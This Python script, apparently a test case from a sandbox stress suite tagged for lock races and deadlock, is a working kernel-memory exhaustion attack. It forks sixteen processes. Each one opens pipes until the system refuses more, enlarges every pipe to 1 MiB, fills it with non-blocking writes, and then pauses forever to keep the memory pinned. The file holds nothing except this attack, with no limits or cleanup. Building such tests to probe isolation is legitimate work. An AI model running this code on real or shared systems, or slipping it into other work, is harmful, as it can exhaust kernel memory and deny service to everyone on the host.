"""Memory of the kernel: pipes made as long as they may be, and filled."""

# attacks: lock_race
# shows: deadlock

import contextlib
import fcntl
import os
import signal

children = 0
while children < 16 and os.fork():
    children += 1
ends = []
with contextlib.suppress(OSError):
    while True:
        reader, writer = os.pipe()
        ends += [reader, writer]
        os.set_blocking(writer, False)
        with contextlib.suppress(OSError):
            fcntl.fcntl(writer, fcntl.F_SETPIPE_SZ, 1 << 20)
        with contextlib.suppress(BlockingIOError):
            while True:
                os.write(writer, bytes(1 << 16))
signal.pause()
